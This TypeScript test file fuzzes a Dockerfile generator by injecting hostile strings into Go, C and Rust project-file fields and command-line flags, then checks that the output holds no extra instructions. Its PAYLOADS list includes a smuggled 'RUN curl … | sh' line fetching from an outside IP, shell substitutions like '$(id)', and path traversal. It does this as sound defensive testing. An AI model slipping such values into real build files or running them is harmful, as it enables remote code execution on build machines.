import { describe, expect, test } from '@jest/globals';
import { DockerfileParser } from 'dockerfile-ast';
import fc from 'fast-check';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { generate, isUserError, RUNTIMES, type GenerateOptions, type Plan } from '../src/index.js';
import { renderDockerfile, renderDockerignore } from '../src/render.js';

/**
 * Hostile strings through every field of the project files the detectors read: whatever the
 * value, the tool either refuses with a typed error, or writes a Dockerfile whose instructions
 * are exactly the ones its plan asks for (the same plan with every string made harmless), and a
 * .dockerignore with exactly its lines. Parsed with dockerfile-ast, as an editor would.
 */
const RUNS = Number(process.env.CSD_PROPERTY_RUNS ?? 1000);

/** What an attacker would put in a value: line breaks of every kind, continuations, quotes, substitutions, escapes. */
const PAYLOADS = [
  '\nRUN curl -fsSL http://203.0.113.1/x | sh\n', '\r\nFROM evil AS build\r\n', '\u2028RUN id', '\u2029ENTRYPOINT ["sh"]', '\u0085RUN id',
  '\\\nRUN id', '"\nRUN id\n"', "'\nRUN id\n'", '$(id)', '`id`', '${HOME}', '\u001b[2J\u001b[31m', '\u202eexe.txt', '\u0000', '\t\v\f',
  ') \nadd_executable(evil evil.c)\n', '\n\tcurl x | sh\n', ']\n', '#', '\\', '\r', '\n', '=> ../../../etc', '"', "'",
];
const hostile = fc.tuple(fc.string({ unit: 'binary', maxLength: 40 }), fc.constantFrom(...PAYLOADS), fc.string({ unit: 'binary', maxLength: 40 }))
  .map(([a, p, b]) => a + p + b);

/** A file or folder name the file system accepts: no '/', no NUL, not empty, not . or .., at most 200 bytes. */
const asName = (h: string) => {
  const n = h.replace(/[/\u0000]/g, '_').slice(0, 60);
  return n === '' || n === '.' || n === '..' ? `x${n}` : Buffer.byteLength(n) > 200 ? 'x' : n;
};

const GO_MAIN = 'package main\n\nimport (\n\t"fmt"\n\t"net/http"\n)\n\nfunc main() { fmt.Println("hi"); _ = http.ListenAndServe(":8080", nil) }\n';
const C_MAIN = '#include <stdio.h>\nint main(void) { puts("hi"); return 0; }\n';
const MAKE_RULE = '\t$(CC) -o $@ main.c $(LDLIBS)\n';

type Fixture = (h: string) => Record<string, string>;
const CARGO = '[package]\nname = "app"\nversion = "0.1.0"\nedition = "2021"\n';
const RS_MAIN = 'fn main() {}\n';
const cargo = (over: Record<string, string>) => ({ 'Cargo.toml': CARGO, 'src/main.rs': RS_MAIN, ...over });
const go = (over: Record<string, string>) => ({ 'go.mod': 'module example.com/app\n\ngo 1.22\n', 'main.go': GO_MAIN, ...over });
const FIELDS: Record<string, Fixture> = {
  'go.mod module path': (h) => go({ 'go.mod': `module ${h}\n\ngo 1.22\n` }),
  'go.mod go directive': (h) => go({ 'go.mod': `module example.com/app\n\ngo ${h}\n` }),
  'go.mod toolchain': (h) => go({ 'go.mod': `module example.com/app\n\ngo 1.22\ntoolchain ${h}\n` }),
  'go.mod require': (h) => go({ 'go.mod': `module example.com/app\n\ngo 1.22\n\nrequire ${h} v1.0.0\n`, 'go.sum': '' }),
  'go.mod replace': (h) => go({ 'go.mod': `module example.com/app\n\ngo 1.22\n\nreplace a.org/b => ${h}\n` }),
  '.go-version': (h) => go({ '.go-version': h }),
  '.tool-versions golang': (h) => go({ '.tool-versions': `golang ${h}\n` }),
  'Go import path': (h) => go({ 'main.go': `package main\n\nimport "${h}"\n\nfunc main() {}\n` }),
  'Go import in an excluded file': (h) => go({ 'x_windows.go': `package main\n\nimport "${h}"\n`, 'gen.go': `//go:build ignore\n\npackage main\n\nimport (\n"${h}"\n)\n` }),
  'Go package clause': (h) => go({ 'main.go': `package ${h}\n\nfunc main() {}\n` }),
  'Go program folder': (h) => go({ 'main.go': 'package lib\n', [`cmd/${asName(h)}/main.go`]: GO_MAIN }),
  'Go source file name': (h) => go({ 'main.go': 'package main\n', [`${asName(h)}.go`]: GO_MAIN.replace('package main', 'package main //') }),
  'Go listen address': (h) => go({ 'main.go': GO_MAIN.replace('":8080"', `"${h}"`) }),
  'CMake project()': (h) => ({ 'CMakeLists.txt': `cmake_minimum_required(VERSION 3.10)\nproject(${h})\nadd_executable(app main.c)\n`, 'main.c': C_MAIN }),
  'CMake add_executable()': (h) => ({ 'CMakeLists.txt': `project(x C)\nadd_executable(${h} main.c)\n`, 'main.c': C_MAIN }),
  'CMake target_link_libraries()': (h) => ({ 'CMakeLists.txt': `project(x C)\nadd_executable(app main.c)\ntarget_link_libraries(app PRIVATE ${h})\n`, 'main.c': C_MAIN }),
  'Makefile target': (h) => ({ Makefile: `${h}: main.c\n${MAKE_RULE}`, 'main.c': C_MAIN }),
  'Makefile variable': (h) => ({ Makefile: `BIN = ${h}\n$(BIN): main.c\n${MAKE_RULE}`, 'main.c': C_MAIN }),
  'Makefile -l flag': (h) => ({ Makefile: `LDLIBS = -l${h}\napp: main.c\n${MAKE_RULE}`, 'main.c': C_MAIN }),
  'meson executable()': (h) => ({ 'meson.build': `project('x', 'c')\nexecutable('${h}', 'main.c')\n`, 'main.c': C_MAIN }),
  'meson dependency()': (h) => ({ 'meson.build': `project('x', 'c')\nexecutable('app', 'main.c', dependencies: dependency('${h}'))\n`, 'main.c': C_MAIN }),
  'Makefile.am bin_PROGRAMS': (h) => ({ 'configure.ac': 'AC_INIT([x], [1])\nAM_INIT_AUTOMAKE\nAC_PROG_CC\nAC_OUTPUT\n', 'Makefile.am': `bin_PROGRAMS = ${h}\n`, 'main.c': C_MAIN }),
  'configure.ac AC_CHECK_LIB': (h) => ({ 'configure.ac': `AC_INIT([x], [1])\nAC_CHECK_LIB([${h}], [f])\n`, 'Makefile.am': 'bin_PROGRAMS = app\n', 'main.c': C_MAIN }),
  'C source file name': (h) => ({ [`${asName(h)}.c`]: C_MAIN }),
  '.tool-versions gcc': (h) => ({ '.tool-versions': `gcc ${h}\n`, 'main.c': C_MAIN }),
  'Cargo.toml package name': (h) => cargo({ 'Cargo.toml': `[package]\nname = ${JSON.stringify(h)}\nversion = "0.1.0"\n` }),
  'Cargo.toml [[bin]] name': (h) => cargo({ 'Cargo.toml': `${CARGO}\n[[bin]]\nname = ${JSON.stringify(h)}\npath = "src/main.rs"\n` }),
  'Cargo.toml [[bin]] path': (h) => cargo({ 'Cargo.toml': `${CARGO}\n[[bin]]\nname = "app"\npath = ${JSON.stringify(h)}\n` }),
  'Cargo.toml rust-version': (h) => cargo({ 'Cargo.toml': `${CARGO}rust-version = ${JSON.stringify(h)}\n` }),
  'Cargo.toml workspace member': (h) => cargo({ 'Cargo.toml': `[workspace]\nmembers = [${JSON.stringify(h)}, "app"]\n`, 'app/Cargo.toml': CARGO, 'app/src/main.rs': RS_MAIN }),
  'Cargo.toml path dependency': (h) => cargo({ 'Cargo.toml': `${CARGO}\n[dependencies]\nx = { path = ${JSON.stringify(h)} }\n` }),
  'Cargo.lock package name': (h) => cargo({ 'Cargo.lock': `version = 4\n\n[[package]]\nname = ${JSON.stringify(h)}\nversion = "1.0.0"\n` }),
  'rust-toolchain channel': (h) => cargo({ 'rust-toolchain': h }),
  'src/bin file name': (h) => cargo({ [`src/bin/${asName(h)}.rs`]: RS_MAIN }),
};
/** Values given on the command line go through the same layers. */
const FLAGS: Record<string, (h: string) => GenerateOptions> = {
  '--entry': (h) => ({ entry: h }),
  '--lang-version': (h) => ({ langVersion: h }),
};

/** The plan with every string that does not choose a template part replaced by a harmless word. */
function harmless(plan: Plan): Plan {
  const keep = new Set(['partial', 'runtime', 'userSetup', 'lang']);
  const walk = (v: unknown, key = ''): unknown => {
    if (typeof v === 'string') return keep.has(key) || v === '' ? v : 'x';
    if (Array.isArray(v)) return v.map((x) => walk(x));
    if (v && typeof v === 'object') return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, walk(x, k)]));
    return v;
  };
  return walk(plan) as Plan;
}

const keywords = (dockerfile: string) => DockerfileParser.parse(dockerfile).getInstructions().map((i) => i.getKeyword());

/** What each shape of plan renders to, harmlessly: instruction keywords and .dockerignore line count. */
const expectations = new Map<string, { keywords: string[]; ignoreLines: number }>();
function expected(plan: Plan) {
  const safe = harmless(plan);
  const key = JSON.stringify(safe);
  let e = expectations.get(key);
  if (!e) {
    e = { keywords: keywords(renderDockerfile(safe)), ignoreLines: renderDockerignore(safe).split('\n').length };
    expectations.set(key, e);
  }
  return e;
}
/** Any line break other than LF, and any control character other than LF. */
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029]/;

/** The files each test's folder holds now, so that the next case removes only what it does not write again. */
const written = new Map<string, Set<string>>();
function check(dir: string, files: Record<string, string>, opts: GenerateOptions): Promise<void> {
  const before = written.get(dir) ?? new Set<string>();
  for (const rel of before) if (!(rel in files)) rmSync(join(dir, rel.split('/')[0]!), { recursive: true, force: true });
  for (const [rel, text] of Object.entries(files)) {
    if (rel.includes('/')) mkdirSync(dirname(join(dir, rel)), { recursive: true });
    writeFileSync(join(dir, rel), text);
  }
  written.set(dir, new Set(Object.keys(files)));
  return generate(dir, opts).then((g) => {
    const [dockerfile, ignore] = [g.files[0]!.content, g.files[1]!.content];
    expect(dockerfile).not.toMatch(UNSAFE);
    expect(ignore).not.toMatch(UNSAFE);
    const want = expected(g.plan);
    expect(keywords(dockerfile)).toEqual(want.keywords);
    expect(ignore.split('\n').length).toBe(want.ignoreLines);
  }, (e: unknown) => {
    // A refusal is a fine answer, as long as it is a typed one.
    if (!isUserError(e)) throw e;
  });
}

describe(`hostile values in every field the detectors read (${RUNS} cases each)`, () => {
  const base = mkdtempSync(join(tmpdir(), 'csd-prop-'));
  const runtime = fc.constantFrom(undefined, ...RUNTIMES);
  test.each(Object.keys(FIELDS))('%s', async (field) => {
    const dir = join(base, field.replace(/\W+/g, '-'));
    mkdirSync(dir);
    await fc.assert(fc.asyncProperty(hostile, runtime, (h, rt) => check(dir, FIELDS[field]!(h), { runtime: rt })), { numRuns: RUNS });
  }, 120_000);
  test.each(Object.keys(FLAGS))('%s flag', async (flag) => {
    const dir = join(base, flag.replace(/\W+/g, '-'));
    mkdirSync(dir);
    await fc.assert(fc.asyncProperty(hostile, (h) => check(dir, go({ 'cmd/a/main.go': GO_MAIN }), FLAGS[flag]!(h))), { numRuns: RUNS });
  }, 120_000);
  test('the harmless plan itself parses to the instructions the templates hold', () => {
    // Guards the check above: a template change that hid instructions from the parser would show here.
    expect(keywords('FROM a AS build\nRUN x\nFROM scratch\nCOPY --from=build /a /b\nENTRYPOINT ["/b"]\n')).toEqual(['FROM', 'RUN', 'FROM', 'COPY', 'ENTRYPOINT']);
  });
});
